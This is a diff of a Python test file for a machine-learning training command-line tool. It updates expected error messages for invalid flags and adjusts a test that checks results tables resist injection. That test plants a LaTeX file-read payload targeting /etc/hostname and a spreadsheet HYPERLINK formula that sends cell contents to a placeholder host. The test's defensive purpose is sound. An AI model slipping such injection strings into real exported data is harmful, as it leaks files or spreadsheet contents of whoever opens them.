@@ -388,11 +388,14 @@ BAD_INPUTS = [
     ("6 export_dir in a study", [*TINY, "--export_dir={dir}"], "--export_dir is read only"),
     ("6 run_dirs in a study", [*TINY, "--run_dirs={dir}"], "--run_dirs is read only"),
     ("6 translation flag on images", [*TINY, "--source_language=de"],
-     "--source_language is a translation flag"),
+     "--source_language is not an option of --dataset=embedded"),
     ("6 translation flag on images", [*TINY, "--max_tokens=100"],
-     "--max_tokens is a translation flag"),
+     "--max_tokens is not an option of --dataset=embedded"),
     ("6 embedded-only flag on another dataset",
-     [*TINY, "--dataset=cifar100", "--data_dir={dir}"], "sizes the embedded dataset only"),
+     [*TINY, "--dataset=cifar100", "--data_dir={dir}"],
+     "--train_per_class is not an option of --dataset=cifar100"),
+    ("issue 22: unknown data option", [*TINY, "--data_option=colour=1"],
+     "unknown option(s) colour for dataset 'embedded'; valid options: data_seed, "),
     ("6 teacher weights for no teacher", [*TINY, "--teacher_pretrained=0.5={a_file}"],
      "no teacher has label smoothing 0.5"),
     ("6 student weights for no student", [*TINY, "--pretrained=resnet20={a_file}"],
@@ -472,8 +475,8 @@ def test_run_json_strings_cannot_inject_latex_or_spreadsheet_formulas(study, tmp
     shutil.copytree(root / "runs", runs)
     run_json = runs / "quick" / "teacher-resnet8-ls0-seed0" / "run.json"
     info = json.loads(run_json.read_text())
-    info["model"] = r"\input{/etc/hostname}"
-    info["dataset"] = '=HYPERLINK("http://x/?"&A1,"click")'
+    info["spec"]["model"] = r"\input{/etc/hostname}"
+    info["spec"]["dataset"] = '=HYPERLINK("http://x/?"&A1,"click")'
     run_json.write_text(json.dumps(info))
     assert cli(f"--output_dir={runs}", "--mode=results") == 0
     tables = runs / "quick" / "results"
